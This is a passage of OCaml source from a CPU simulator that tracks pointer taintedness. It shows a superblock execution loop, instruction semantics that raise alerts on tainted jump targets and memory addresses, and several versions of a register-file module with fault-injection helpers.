          if cmp then Regfile.untaint regs rs;
          t.pc <- (if a >= 0 then next + Array.unsafe_get fc k else next);
          Normal
        | Block.Oj ->
          t.pc <- Array.unsafe_get fa k;
          Normal
        | Block.Ojal ->
          Regfile.set regs Reg.ra (Tword.untainted next);
          t.pc <- Array.unsafe_get fa k;
          Normal
        | Block.Ojr ->
          let rs = Array.unsafe_get fa k in
          let a = Regfile.get regs rs in
          if dc && Tword.is_tainted a then begin
            t.pc <- pc;
            Alert
              { alert_pc = pc; alert_insn = Array.unsafe_get insns k; kind = Jump_target;
                reg = rs; reg_value = a; ea = None; stage = "ID/EX" }
          end
          else begin
            t.pc <- Tword.value a;
            Normal
          end
        | Block.Ojalr ->
          let rd = Array.unsafe_get fa k and rs = Array.unsafe_get fb k in
          let a = Regfile.get regs rs in
          if dc && Tword.is_tainted a then begin
            t.pc <- pc;
            Alert
              { alert_pc = pc; alert_insn = Array.unsafe_get insns k; kind = Jump_target;
                reg = rs; reg_value = a; ea = None; stage = "ID/EX" }
          end
          else begin
            Regfile.set regs rd (Tword.untainted next);
            t.pc <- Tword.value a;
            Normal
          end
        | Block.Osyscall ->
          t.pc <- next;
          Syscall
        | Block.Obreak ->
          t.pc <- next;
          Break_trap (Array.unsafe_get fa k)
        | _ -> assert false
      in
      (* Superblock tier: per-entry hotness counters, translated
         chains, and an env the chains communicate exits through. *)
      let module SB = Superblock in
      let tier = tier_for t d in
      let sbs = tier.SB.t_sbs and counts = d.Block.counts in
      let env = sbenv_for t tsto st in
      env.SB.e_guards <- guards;
      env.SB.e_has_guards <- has_guards;
      (* Driver: one iteration per basic block (or per superblock
         chain run, when the entry is translated and the whole block
         fits the remaining fuel — the tier refuses partial blocks so
         fuel slicing stays icount-exact on the interpreter arm). *)
      let remaining = ref fuel in
      let result = ref Normal in
      let running = ref true in
      while !running do
        let pc0 = t.pc in
        let idx = Block.index_of ~base ~len:n pc0 in
        if idx < 0 then begin
          result := Fault (Bad_pc pc0);
          running := false
        end
        else begin
          let sb0 =
            let s = Array.unsafe_get sbs idx in
            if s != SB.dummy then s
            else if Array.unsafe_get stops idx < n then begin
              (* untranslated entry with an in-text terminator: warm
                 its counter, promote when it crosses the threshold *)
              let c = Array.unsafe_get counts idx + 1 in
              Array.unsafe_set counts idx c;
              if c >= SB.threshold then begin
                t.sb_promoted <- t.sb_promoted + 1;
                SB.translate tier idx
              end
              else SB.dummy
            end
            else SB.dummy
          in
          if sb0 != SB.dummy && !remaining >= sb0.SB.sb_len then begin
            (* --- translated arm: run the chain until it exits --- *)
            env.SB.e_fuel <- !remaining;
            env.SB.e_blocks <- 0;
            env.SB.e_cleans <- 0;
            env.SB.e_deopts <- 0;
            env.SB.e_mode <- -1;
            (try sb0.SB.sb_go env
             with TS.Unmapped addr ->
               env.SB.e_ev <- SB.ev_unmapped;
               env.SB.e_a <- addr);
            t.blocks_run <- t.blocks_run + env.SB.e_blocks;
            t.clean_blocks <- t.clean_blocks + env.SB.e_cleans;
            t.sb_deopts <- t.sb_deopts + env.SB.e_deopts;
            if env.SB.e_blocks > 1 then
              t.chain_hits <- t.chain_hits + env.SB.e_blocks - 1;
            let code = env.SB.e_ev in
            let cur = env.SB.e_cur in
            let rel = env.SB.e_rel in
            (* Mid-body exits charged the chain for the whole current
               block up front; repay the unexecuted suffix (the event
               instruction itself counts, as in the per-step engine).
               Terminator-site and fuel exits have nothing to repay
               ([ev_jump_alert] parks [e_rel] on the terminator, so the
               formula is uniform). *)
            let repay =
              if code <= SB.ev_break then 0
              else (Array.unsafe_get sbs cur).SB.sb_len - rel - 1
            in
            env.SB.e_fuel <- env.SB.e_fuel + repay;
            t.icount <- t.icount + (!remaining - env.SB.e_fuel);
            remaining := env.SB.e_fuel;
            (* The block entry flushed its whole-body load/store
               counts up front; a mid-body exit must give back the
               unexecuted suffix, starting at the event instruction
               itself (the interpreter bumps only after a successful
               access, so a faulting/alerting access never counts). *)
            if code >= SB.ev_load_alert then begin
              let nl = ref 0 and ns = ref 0 in
              let last = cur + (Array.unsafe_get sbs cur).SB.sb_len - 2 in
              for q = cur + rel to last do
                match Array.unsafe_get ops q with
                | Block.Olb | Block.Olbu | Block.Olh | Block.Olhu | Block.Olw ->
                  incr nl
                | Block.Osb | Block.Osh | Block.Osw -> incr ns
                | _ -> ()
              done;
              if !nl > 0 then st.M.loads <- st.M.loads - !nl;
              if !ns > 0 then st.M.stores <- st.M.stores - !ns
            end;
            if code = SB.ev_none then begin
              (* chain miss: continue (and warm the successor) on the
                 interpreter arm *)
              t.chain_misses <- t.chain_misses + 1;
              t.pc <- env.SB.e_next_pc;
              if !remaining <= 0 then running := false
            end
            else if code = SB.ev_fuel then begin
              (* a chained successor no longer fits: park on it and
                 let the interpreter arm run the partial block *)
              t.pc <- env.SB.e_next_pc;
              if !remaining <= 0 then running := false
            end
            else if code = SB.ev_syscall then begin
              t.pc <- env.SB.e_next_pc;
              result := Syscall;
              running := false
            end
            else if code = SB.ev_break then begin
              t.pc <- env.SB.e_next_pc;
              result := Break_trap env.SB.e_a;
              running := false
            end
            else begin
              let j = cur + rel in
              let jpc = base + (j lsl 2) in
              t.pc <- jpc;
              result :=
                (if code = SB.ev_jump_alert then
                   Alert
                     { alert_pc = jpc; alert_insn = Array.unsafe_get insns j;
                       kind = Jump_target; reg = env.SB.e_a;
                       reg_value = Regfile.get regs env.SB.e_a; ea = None;
                       stage = "ID/EX" }
                 else if code = SB.ev_load_alert || code = SB.ev_store_alert then
                   Alert
                     { alert_pc = jpc; alert_insn = Array.unsafe_get insns j;
                       kind =
                         (if code = SB.ev_load_alert then Load_address
                          else Store_address);
                       reg = env.SB.e_a; reg_value = Regfile.get regs env.SB.e_a;
                       ea = Some env.SB.e_b; stage = "EX/MEM" }
                 else if code = SB.ev_guard_alert then
                   Alert
                     { alert_pc = jpc; alert_insn = Array.unsafe_get insns j;
                       kind = Guarded_store; reg = env.SB.e_a;
                       reg_value = Regfile.get regs env.SB.e_a;
                       ea = Some env.SB.e_b; stage = "EX/MEM" }
                 else if code = SB.ev_misalign then
                   Fault (Misaligned { addr = env.SB.e_a; width = env.SB.e_b })
                 else
                   Fault
                     (Segfault
                        { addr = env.SB.e_a;
                          access =
                            (match Array.unsafe_get ops j with
                             | Block.Osb | Block.Osh | Block.Osw -> M.Store
                             | _ -> M.Load) }));
              running := false
            end
          end
          else begin
            (* --- interpreter arm --- *)
            t.blocks_run <- t.blocks_run + 1;
            let s_lim = Array.unsafe_get stops idx in
            let budget = !remaining in
            let stop = if s_lim - idx < budget then s_lim else idx + budget in
            let clean =
              Regfile.is_clean regs && Ptaint_mem.Memory.tainted_bytes mem = 0
            in
            if clean then t.clean_blocks <- t.clean_blocks + 1;
            ev := Normal;
            let j = if clean then exec_clean idx stop else exec_full idx stop in
            match !ev with
            | Normal ->
              if j = s_lim && s_lim < n && budget > s_lim - idx then begin
                (* straight-line body complete, fuel left: run the
                   terminator as part of this block *)
                let r = exec_term s_lim in
                t.icount <- t.icount + (s_lim - idx) + 1;
                remaining := budget - (s_lim - idx) - 1;
                match r with
                | Normal -> if !remaining <= 0 then running := false
                | r ->
                  result := r;
                  running := false
              end
              else begin
                (* stopped at the fuel cap, or fell off the end of the
                   text segment (the next iteration reports Bad_pc) *)
                t.icount <- t.icount + (j - idx);
                remaining := budget - (j - idx);
                t.pc <- base + (j lsl 2);
                if !remaining <= 0 then running := false
              end
            | e ->
              (* the instruction at [j] raised: it still counts, and the
                 pc parks on it, exactly like the per-step engine *)
              t.icount <- t.icount + (j - idx) + 1;
              remaining := budget - (j - idx) - 1;
              t.pc <- base + (j lsl 2);
              result := e;
              running := false
          end
        end
      done;
      !result
