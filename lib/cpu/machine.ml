open Ptaint_taint
open Ptaint_isa

type code = { base : int; insns : Insn.t array }

type alert_kind = Jump_target | Load_address | Store_address | Guarded_store

type alert = {
  alert_pc : int;
  alert_insn : Insn.t;
  kind : alert_kind;
  reg : Reg.t;
  reg_value : Tword.t;
  ea : int option;
  stage : string;
}

type fault =
  | Segfault of { addr : int; access : Ptaint_mem.Memory.access }
  | Misaligned of { addr : int; width : int }
  | Bad_pc of int

type step =
  | Normal
  | Syscall
  | Alert of alert
  | Fault of fault
  | Break_trap of int

type obs = {
  obs_trace : Ptaint_obs.Trace.t;
  obs_ring : Insn.t Ptaint_obs.Ring.t;
  mutable obs_regs_seen : int;
  mutable obs_stores_seen : int;
}

type t = {
  regs : Regfile.t;
  mem : Ptaint_mem.Memory.t;
  code : code;
  mutable policy : Policy.t;
  mutable pc : int;
  mutable icount : int;
  mutable guard_ranges : (int * int) list;
  mutable obs : obs option;
}

let create ?(policy = Policy.default) ~code ~mem ~entry () =
  { regs = Regfile.create (); mem; code; policy; pc = entry; icount = 0; guard_ranges = [];
    obs = None }

let attach_obs ?(ring = 48) t trace =
  t.obs <-
    Some
      { obs_trace = trace;
        obs_ring = Ptaint_obs.Ring.create ~dummy:Insn.Nop ring;
        obs_regs_seen = 0;
        obs_stores_seen = 0 }

let trace t = match t.obs with None -> None | Some o -> Some o.obs_trace
let ring_window t = match t.obs with None -> [] | Some o -> Ptaint_obs.Ring.to_list o.obs_ring

let add_guard t ~addr ~len = t.guard_ranges <- (addr, len) :: t.guard_ranges
let remove_guard t ~addr = t.guard_ranges <- List.filter (fun (a, _) -> a <> addr) t.guard_ranges
let guards t = t.guard_ranges

let guarded t ea width =
  t.guard_ranges <> []
  && List.exists (fun (lo, len) -> ea < lo + len && ea + width > lo) t.guard_ranges

let fetch t pc =
  let off = pc - t.code.base in
  if off < 0 || off land 3 <> 0 || off / 4 >= Array.length t.code.insns then None
  else Some t.code.insns.(off / 4)

let alert_kind_name = function
  | Jump_target -> "tainted jump target"
  | Load_address -> "tainted load address"
  | Store_address -> "tainted store address"
  | Guarded_store -> "tainted write into guarded data"

let pp_alert ppf a =
  Format.fprintf ppf "%x: %a   %a=%a (%s, detected at %s)" a.alert_pc Insn.pp a.alert_insn
    Reg.pp a.reg Tword.pp a.reg_value (alert_kind_name a.kind) a.stage

let pp_fault ppf = function
  | Segfault { addr; access } ->
    Format.fprintf ppf "segmentation fault: %s at 0x%08x"
      (match access with Ptaint_mem.Memory.Load -> "load" | Store -> "store")
      addr
  | Misaligned { addr; width } ->
    Format.fprintf ppf "misaligned %d-byte access at 0x%08x" width addr
  | Bad_pc pc -> Format.fprintf ppf "jump outside text segment to 0x%08x" pc

(* --- ALU value semantics --- *)

let rop_value op a b =
  match (op : Insn.rop) with
  | ADD | ADDU -> Word.add a b
  | SUB | SUBU -> Word.sub a b
  | AND -> a land b
  | OR -> a lor b
  | XOR -> a lxor b
  | NOR -> Word.of_int (lnot (a lor b))
  | SLT -> if Word.lt_signed a b then 1 else 0
  | SLTU -> if Word.lt_unsigned a b then 1 else 0
  | SLLV -> Word.sll a (b land 31)
  | SRLV -> Word.srl a (b land 31)
  | SRAV -> Word.sra a (b land 31)

(* Taintedness of an R-type result, per Table 1 (the Figure 3 MUX). *)
let rop_mask (pol : Policy.t) op ~rs ~rt ~(a : Tword.t) ~(b : Tword.t) =
  if not pol.track then Mask.none
  else
    match (op : Insn.rop) with
    | AND when pol.and_zero_untaints ->
      Prop.and_bytes ~v1:(Tword.value a) ~m1:(Tword.mask a) ~v2:(Tword.value b)
        ~m2:(Tword.mask b)
    | OR when pol.or_ones_untaints ->
      Prop.or_bytes ~v1:(Tword.value a) ~m1:(Tword.mask a) ~v2:(Tword.value b)
        ~m2:(Tword.mask b)
    | XOR when rs = rt && pol.xor_idiom_untaints -> Prop.xor_same
    | SLT | SLTU -> if pol.compare_untaints then Mask.none else Prop.default (Tword.mask a) (Tword.mask b)
    | SLLV -> Prop.shift Prop.Left ~amount:(Tword.value b) ~amount_mask:(Tword.mask b) (Tword.mask a)
    | SRLV | SRAV ->
      Prop.shift Prop.Right ~amount:(Tword.value b) ~amount_mask:(Tword.mask b) (Tword.mask a)
    | ADD | ADDU | SUB | SUBU | AND | OR | XOR | NOR ->
      Prop.default (Tword.mask a) (Tword.mask b)

let width_of_load : Insn.load_op -> int = function LB | LBU -> 1 | LH | LHU -> 2 | LW -> 4
let width_of_store : Insn.store_op -> int = function SB -> 1 | SH -> 2 | SW -> 4

(* The hot loop below is deliberately allocation-free on the Normal
   path: packed Twords are immediates, register/memory traffic goes
   through int fast paths, and records (alerts, faults) are only built
   in the branches that end the run.  Observation never intrudes here:
   [step] dispatches on [t.obs] once, and the traced variant wraps
   this untouched core. *)

let step_core t =
  let pc = t.pc in
  let off = pc - t.code.base in
  if off < 0 || off land 3 <> 0 || off lsr 2 >= Array.length t.code.insns then
    Fault (Bad_pc pc)
  else begin
    let insn = Array.unsafe_get t.code.insns (off lsr 2) in
    let regs = t.regs in
    let pol = t.policy in
    t.icount <- t.icount + 1;
    let next = pc + 4 in
    (match insn with
     | Nop -> t.pc <- next; Normal
     | R (op, rd, rs, rt) ->
       let a = Regfile.get regs rs and b = Regfile.get regs rt in
       let v = rop_value op (Tword.value a) (Tword.value b) in
       let m = rop_mask pol op ~rs ~rt ~a ~b in
       if Insn.uses_compare insn && pol.track && pol.compare_untaints then begin
         Regfile.untaint regs rs;
         Regfile.untaint regs rt
       end;
       Regfile.set regs rd (Tword.make ~v ~m);
       t.pc <- next;
       Normal
     | I (op, rt, rs, imm) ->
       let a = Regfile.get regs rs in
       let av = Tword.value a in
       let v =
         match op with
         | ADDI | ADDIU -> Word.add av (Word.of_signed imm)
         | ANDI -> av land (imm land 0xffff)
         | ORI -> av lor (imm land 0xffff)
         | XORI -> av lxor (imm land 0xffff)
         | SLTI -> if Word.lt_signed av (Word.of_signed imm) then 1 else 0
         | SLTIU -> if Word.lt_unsigned av (Word.of_signed imm) then 1 else 0
       in
       let m =
         if not pol.track then Mask.none
         else
           match op with
           | ADDI | ADDIU | ORI | XORI -> Tword.mask a
           | ANDI ->
             if pol.and_zero_untaints then
               Prop.and_bytes ~v1:av ~m1:(Tword.mask a) ~v2:(imm land 0xffff) ~m2:Mask.none
             else Tword.mask a
           | SLTI | SLTIU -> if pol.compare_untaints then Mask.none else Tword.mask a
       in
       if Insn.uses_compare insn && pol.track && pol.compare_untaints then
         Regfile.untaint regs rs;
       Regfile.set regs rt (Tword.make ~v ~m);
       t.pc <- next;
       Normal
     | Shift (op, rd, rt, sh) ->
       let a = Regfile.get regs rt in
       let v =
         match op with
         | SLL -> Word.sll (Tword.value a) sh
         | SRL -> Word.srl (Tword.value a) sh
         | SRA -> Word.sra (Tword.value a) sh
       in
       let m =
         if not pol.track then Mask.none
         else
           let dir = match op with SLL -> Prop.Left | SRL | SRA -> Prop.Right in
           Prop.shift dir ~amount:sh ~amount_mask:Mask.none (Tword.mask a)
       in
       Regfile.set regs rd (Tword.make ~v ~m);
       t.pc <- next;
       Normal
     | Lui (rt, imm) ->
       Regfile.set regs rt (Tword.untainted (Word.sll (imm land 0xffff) 16));
       t.pc <- next;
       Normal
     | Load (op, rt, off, base) -> (
       let a = Regfile.get regs base in
       let ea = Word.add (Tword.value a) (Word.of_signed off) in
       let width = width_of_load op in
       if Policy.detects_data_pointers pol && pol.track && Tword.is_tainted a then
         Alert
           { alert_pc = pc; alert_insn = insn; kind = Load_address; reg = base;
             reg_value = a; ea = Some ea; stage = "EX/MEM" }
       else if ea land (width - 1) <> 0 then Fault (Misaligned { addr = ea; width })
       else
         try
           let result =
             match op with
             | LW -> Ptaint_mem.Memory.load_word t.mem ea
             | LB ->
               let w = Ptaint_mem.Memory.load_byte_t t.mem ea in
               Tword.with_value w (Word.sign_extend ~bits:8 (Tword.value w))
             | LBU -> Ptaint_mem.Memory.load_byte_t t.mem ea
             | LH ->
               let w = Ptaint_mem.Memory.load_half_t t.mem ea in
               Tword.with_value w (Word.sign_extend ~bits:16 (Tword.value w))
             | LHU -> Ptaint_mem.Memory.load_half_t t.mem ea
           in
           let result = if pol.track then result else Tword.untainted (Tword.value result) in
           Regfile.set regs rt result;
           t.pc <- next;
           Normal
         with Ptaint_mem.Memory.Fault { addr; access } -> Fault (Segfault { addr; access }))
     | Store (op, rt, off, base) -> (
       let a = Regfile.get regs base in
       let ea = Word.add (Tword.value a) (Word.of_signed off) in
       let width = width_of_store op in
       if Policy.detects_data_pointers pol && pol.track && Tword.is_tainted a then
         Alert
           { alert_pc = pc; alert_insn = insn; kind = Store_address; reg = base;
             reg_value = a; ea = Some ea; stage = "EX/MEM" }
       else if ea land (width - 1) <> 0 then Fault (Misaligned { addr = ea; width })
       else
         let data = Regfile.get regs rt in
         let data = if pol.track then data else Tword.untainted (Tword.value data) in
         if Policy.detects_data_pointers pol && Tword.is_tainted data && guarded t ea width then
           Alert
             { alert_pc = pc; alert_insn = insn; kind = Guarded_store; reg = rt;
               reg_value = data; ea = Some ea; stage = "EX/MEM" }
         else
         try
           (match op with
            | SW -> Ptaint_mem.Memory.store_word t.mem ea data
            | SB ->
              Ptaint_mem.Memory.store_byte t.mem ea
                (Tword.value data land 0xff)
                ~taint:(Mask.byte (Tword.mask data) 0)
            | SH -> Ptaint_mem.Memory.store_half t.mem ea (Tword.value data) ~m:(Tword.mask data));
           t.pc <- next;
           Normal
         with Ptaint_mem.Memory.Fault { addr; access } -> Fault (Segfault { addr; access }))
     | Branch2 (op, rs, rt, off) ->
       let a = Regfile.value regs rs and b = Regfile.value regs rt in
       if pol.track && pol.compare_untaints then begin
         Regfile.untaint regs rs;
         Regfile.untaint regs rt
       end;
       let taken = match op with BEQ -> a = b | BNE -> a <> b in
       t.pc <- (if taken then next + (off * 4) else next);
       Normal
     | Branch1 (op, rs, off) ->
       let a = Word.to_signed (Regfile.value regs rs) in
       if pol.track && pol.compare_untaints then Regfile.untaint regs rs;
       let taken =
         match op with BLEZ -> a <= 0 | BGTZ -> a > 0 | BLTZ -> a < 0 | BGEZ -> a >= 0
       in
       t.pc <- (if taken then next + (off * 4) else next);
       Normal
     | J target -> t.pc <- target; Normal
     | Jal target ->
       Regfile.set regs Reg.ra (Tword.untainted next);
       t.pc <- target;
       Normal
     | Jr rs ->
       let a = Regfile.get regs rs in
       if Policy.detects_control pol && pol.track && Tword.is_tainted a then
         Alert
           { alert_pc = pc; alert_insn = insn; kind = Jump_target; reg = rs; reg_value = a;
             ea = None; stage = "ID/EX" }
       else begin
         t.pc <- Tword.value a;
         Normal
       end
     | Jalr (rd, rs) ->
       let a = Regfile.get regs rs in
       if Policy.detects_control pol && pol.track && Tword.is_tainted a then
         Alert
           { alert_pc = pc; alert_insn = insn; kind = Jump_target; reg = rs; reg_value = a;
             ea = None; stage = "ID/EX" }
       else begin
         Regfile.set regs rd (Tword.untainted next);
         t.pc <- Tword.value a;
         Normal
       end
     | Muldiv (op, rs, rt) ->
       let a = Regfile.get regs rs and b = Regfile.get regs rt in
       let av = Tword.value a and bv = Tword.value b in
       let hi, lo =
         match op with
         | MULT -> (Word.mul_hi_signed av bv, Word.mul_lo av bv)
         | MULTU -> (Word.mul_hi_unsigned av bv, Word.mul_lo av bv)
         | DIV ->
           let q, r = Word.div_signed av bv in
           (r, q)
         | DIVU ->
           let q, r = Word.div_unsigned av bv in
           (r, q)
       in
       let m = if pol.track then Prop.default (Tword.mask a) (Tword.mask b) else Mask.none in
       Regfile.set_hi regs (Tword.make ~v:hi ~m);
       Regfile.set_lo regs (Tword.make ~v:lo ~m);
       t.pc <- next;
       Normal
     | Mfhi rd -> Regfile.set regs rd (Regfile.get_hi regs); t.pc <- next; Normal
     | Mflo rd -> Regfile.set regs rd (Regfile.get_lo regs); t.pc <- next; Normal
     | Mthi rs -> Regfile.set_hi regs (Regfile.get regs rs); t.pc <- next; Normal
     | Mtlo rs -> Regfile.set_lo regs (Regfile.get regs rs); t.pc <- next; Normal
     | Syscall -> t.pc <- next; Syscall
     | Break code -> t.pc <- next; Break_trap code)
  end

(* --- observation (only reached when a trace is attached) --- *)

(* Coarse region classification for taint-milestone narratives.  The
   machine does not know the image's exact heap bounds, so everything
   between the data base and the stack region reads as "heap/data". *)
let obs_region ea =
  if ea >= 0x7000_0000 then ("stack", 1)
  else if ea >= Ptaint_mem.Layout.data_base then ("heap/data", 2)
  else ("low memory", 4)

let step_traced t o =
  let pc = t.pc in
  (match fetch t pc with
   | Some insn -> Ptaint_obs.Ring.push o.obs_ring pc insn
   | None -> ());
  let r = step_core t in
  let tr = o.obs_trace in
  let cycle = t.icount in
  (* propagation milestone: first taint of each architectural slot *)
  for s = 1 to Regfile.slots - 1 do
    if o.obs_regs_seen land (1 lsl s) = 0 && Tword.is_tainted (Regfile.slot t.regs s) then begin
      o.obs_regs_seen <- o.obs_regs_seen lor (1 lsl s);
      Ptaint_obs.Trace.emit tr
        (Ptaint_obs.Event.Reg_taint { cycle; pc; reg = Regfile.slot_name s })
    end
  done;
  (* propagation milestone: first tainted store into each region *)
  (match (fetch t pc, r) with
   | Some (Store (op, rt, off, base)), Normal ->
     let data = Regfile.get t.regs rt in
     if Tword.is_tainted data then begin
       let ea = Word.add (Regfile.value t.regs base) (Word.of_signed off) in
       let region, bit = obs_region ea in
       if o.obs_stores_seen land bit = 0 then begin
         o.obs_stores_seen <- o.obs_stores_seen lor bit;
         Ptaint_obs.Trace.emit tr
           (Ptaint_obs.Event.Tainted_store
              { cycle; pc; addr = ea; len = width_of_store op; region })
       end
     end
   | _ -> ());
  (match r with
   | Alert a ->
     Ptaint_obs.Trace.emit tr
       (Ptaint_obs.Event.Alert
          { cycle; pc = a.alert_pc; kind = alert_kind_name a.kind; reg = Reg.name a.reg;
            value = Tword.value a.reg_value })
   | Fault f ->
     Ptaint_obs.Trace.emit tr
       (Ptaint_obs.Event.Fault { cycle; pc; desc = Format.asprintf "%a" pp_fault f })
   | Normal | Syscall | Break_trap _ -> ());
  r

let step t = match t.obs with None -> step_core t | Some o -> step_traced t o
