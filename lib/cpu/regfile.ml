open Ptaint_taint

(* The 32 GPRs plus HI/LO as one flat int array of packed Tword bits
   (indices 32/33 are HI/LO) — no per-register boxing, and reset is a
   single fill. *)
type t = { regs : int array }

let hi_idx = 32
let lo_idx = 33

let create () = { regs = Array.make 34 (Tword.to_bits Tword.zero) }
let get t r = if r = 0 then Tword.zero else Tword.of_bits t.regs.(r)
let set t r w = if r <> 0 then t.regs.(r) <- Tword.to_bits w
let get_hi t = Tword.of_bits t.regs.(hi_idx)
let set_hi t w = t.regs.(hi_idx) <- Tword.to_bits w
let get_lo t = Tword.of_bits t.regs.(lo_idx)
let set_lo t w = t.regs.(lo_idx) <- Tword.to_bits w

let untaint t r =
  if r <> 0 then t.regs.(r) <- Tword.to_bits (Tword.untainted (t.regs.(r) land 0xFFFFFFFF))

let value t r = if r = 0 then 0 else t.regs.(r) land 0xFFFFFFFF

let tainted_registers t =
  List.filter (fun r -> Tword.is_tainted (get t r)) (List.init 32 Fun.id)

let slots = 34
let slot t i = if i = 0 then Tword.zero else Tword.of_bits t.regs.(i)

let slot_name i =
  if i = hi_idx then "hi" else if i = lo_idx then "lo" else Ptaint_isa.Reg.name i

let reset t = Array.fill t.regs 0 34 (Tword.to_bits Tword.zero)

let pp ppf t =
  for r = 0 to 31 do
    if not (Tword.equal (get t r) Tword.zero) then
      Format.fprintf ppf "%a=%a@ " Ptaint_isa.Reg.pp_sym r Tword.pp (get t r)
  done
