open Ptaint_taint

type t = { regs : Tword.t array; mutable hi : Tword.t; mutable lo : Tword.t }

let create () = { regs = Array.make 32 Tword.zero; hi = Tword.zero; lo = Tword.zero }
let get t r = if r = 0 then Tword.zero else t.regs.(r)
let set t r w = if r <> 0 then t.regs.(r) <- w
let get_hi t = t.hi
let set_hi t w = t.hi <- w
let get_lo t = t.lo
let set_lo t w = t.lo <- w
let untaint t r = if r <> 0 then t.regs.(r) <- Tword.with_mask t.regs.(r) Mask.none
let value t r = Tword.value (get t r)

let tainted_registers t =
  List.filter (fun r -> Tword.is_tainted (get t r)) (List.init 32 Fun.id)

let reset t =
  Array.fill t.regs 0 32 Tword.zero;
  t.hi <- Tword.zero;
  t.lo <- Tword.zero

let pp ppf t =
  for r = 0 to 31 do
    if not (Tword.equal t.regs.(r) Tword.zero) then
      Format.fprintf ppf "%a=%a@ " Ptaint_isa.Reg.pp_sym r Tword.pp t.regs.(r)
  done
