open Ptaint_taint

(* The 32 GPRs plus HI/LO as one flat int array of packed Tword bits
   (indices 32/33 are HI/LO) — no per-register boxing, and reset is a
   single fill.

   [tainted] counts the slots whose packed mask is non-zero; it is
   maintained by every mutator, so the block engine can test "no live
   register taint anywhere" with one load instead of a 34-slot scan. *)
type t = { regs : int array; mutable tainted : int }

let hi_idx = 32
let lo_idx = 33

let create () = { regs = Array.make 34 (Tword.to_bits Tword.zero); tainted = 0 }

(* Register indices come out of 5-bit instruction fields (plus the
   fixed HI/LO slots), so every index is < 34 by construction and the
   accessors skip the array bounds checks. *)
let[@inline] get t r = if r = 0 then Tword.zero else Tword.of_bits (Array.unsafe_get t.regs r)

let[@inline] write t i bits =
  let old = Array.unsafe_get t.regs i in
  Array.unsafe_set t.regs i bits;
  if (old lsr 32 <> 0) <> (bits lsr 32 <> 0) then
    t.tainted <- t.tainted + (if bits lsr 32 <> 0 then 1 else -1)

let[@inline] set t r w = if r <> 0 then write t r (Tword.to_bits w)
let[@inline] get_hi t = Tword.of_bits (Array.unsafe_get t.regs hi_idx)
let[@inline] set_hi t w = write t hi_idx (Tword.to_bits w)
let[@inline] get_lo t = Tword.of_bits (Array.unsafe_get t.regs lo_idx)
let[@inline] set_lo t w = write t lo_idx (Tword.to_bits w)

let[@inline] untaint t r =
  if r <> 0 then begin
    let old = Array.unsafe_get t.regs r in
    if old lsr 32 <> 0 then begin
      Array.unsafe_set t.regs r (old land 0xFFFFFFFF);
      t.tainted <- t.tainted - 1
    end
  end

let[@inline] value t r = if r = 0 then 0 else Array.unsafe_get t.regs r land 0xFFFFFFFF

(* Clean-path write: the value is untainted by construction, so no
   mask restriction is needed; the counter is still kept exact in case
   the destination held taint (it never does while the clean fast path
   is active, but correctness must not depend on the caller). *)
let[@inline] set_value t r v =
  if r <> 0 then begin
    let old = Array.unsafe_get t.regs r in
    if old lsr 32 <> 0 then t.tainted <- t.tainted - 1;
    Array.unsafe_set t.regs r (v land 0xFFFFFFFF)
  end

let tainted_count t = t.tainted

let tainted_registers t =
  List.filter (fun r -> Tword.is_tainted (get t r)) (List.init 32 Fun.id)

let slots = 34
let slot t i = if i = 0 then Tword.zero else Tword.of_bits t.regs.(i)

let slot_name i =
  if i = hi_idx then "hi" else if i = lo_idx then "lo" else Ptaint_isa.Reg.name i

(* Fault-injection entry points.  [inject_flip_value] touches only the
   value bits, so the taint nibble (and the live counter) cannot
   change; [inject_set_taint] goes through [write], which maintains
   the counter exactly.  Slot 0 absorbs injections silently — the
   hardwired zero register masks any fault landing on it. *)

let inject_flip_value t r ~bit =
  if r > 0 && r < slots then begin
    let old = Array.unsafe_get t.regs r in
    Array.unsafe_set t.regs r (old lxor (1 lsl (bit land 31)))
  end

let inject_set_taint t r ~tainted =
  if r > 0 && r < slots then begin
    let old = Array.unsafe_get t.regs r in
    write t r (if tainted then old lor (0xF lsl 32) else old land 0xFFFFFFFF)
  end

let reset t =
  Array.fill t.regs 0 34 (Tword.to_bits Tword.zero);
  t.tainted <- 0

let pp ppf t =
  for r = 0 to 31 do
    if not (Tword.equal (get t r) Tword.zero) then
      Format.fprintf ppf "%a=%a@ " Ptaint_isa.Reg.pp_sym r Tword.pp (get t r)
  done
