open Ptaint_taint

(* The 32 GPRs plus HI/LO as one flat int array of packed Tword bits
   (indices 32/33 are HI/LO) — no per-register boxing, and reset is a
   single fill.

   [tmap] is a bitmap with bit [i] set iff slot [i]'s packed mask is
   non-zero; it is maintained by every mutator, so the block engine and
   the superblock tier can test "no live register taint anywhere" with
   one load instead of a 34-slot scan.  A bitmap (rather than the old
   live count) lets writes maintain it branchlessly without loading the
   old slot value first. *)
type t = { regs : int array; mutable tmap : int }

let hi_idx = 32
let lo_idx = 33

let create () = { regs = Array.make 34 (Tword.to_bits Tword.zero); tmap = 0 }

(* Register indices come out of 5-bit instruction fields (plus the
   fixed HI/LO slots), so every index is < 34 by construction and the
   accessors skip the array bounds checks. *)
let[@inline] get t r = if r = 0 then Tword.zero else Tword.of_bits (Array.unsafe_get t.regs r)

(* The packed mask occupies bits 32..35, so [bits lsr 32] is a 4-bit
   mask and [(m + 15) lsr 4] collapses it to 0/1 without a branch. *)
let[@inline] write t i bits =
  Array.unsafe_set t.regs i bits;
  t.tmap <- t.tmap land lnot (1 lsl i) lor ((((bits lsr 32) + 15) lsr 4) lsl i)

let[@inline] set t r w = if r <> 0 then write t r (Tword.to_bits w)
let[@inline] get_hi t = Tword.of_bits (Array.unsafe_get t.regs hi_idx)
let[@inline] set_hi t w = write t hi_idx (Tword.to_bits w)
let[@inline] get_lo t = Tword.of_bits (Array.unsafe_get t.regs lo_idx)
let[@inline] set_lo t w = write t lo_idx (Tword.to_bits w)

let[@inline] untaint t r =
  if r <> 0 then begin
    Array.unsafe_set t.regs r (Array.unsafe_get t.regs r land 0xFFFFFFFF);
    t.tmap <- t.tmap land lnot (1 lsl r)
  end

let[@inline] value t r = if r = 0 then 0 else Array.unsafe_get t.regs r land 0xFFFFFFFF

(* Clean-path write: the value is untainted by construction, so no
   mask restriction is needed; the bitmap bit is still cleared in case
   the destination held taint (it never does while the clean fast path
   is active, but correctness must not depend on the caller). *)
let[@inline] set_value t r v =
  if r <> 0 then begin
    Array.unsafe_set t.regs r (v land 0xFFFFFFFF);
    t.tmap <- t.tmap land lnot (1 lsl r)
  end

let[@inline] is_clean t = t.tmap = 0

let tainted_count t =
  (* Popcount of a 34-bit map; called from diagnostics and the
     per-step engine's clean test, never from the hot translated
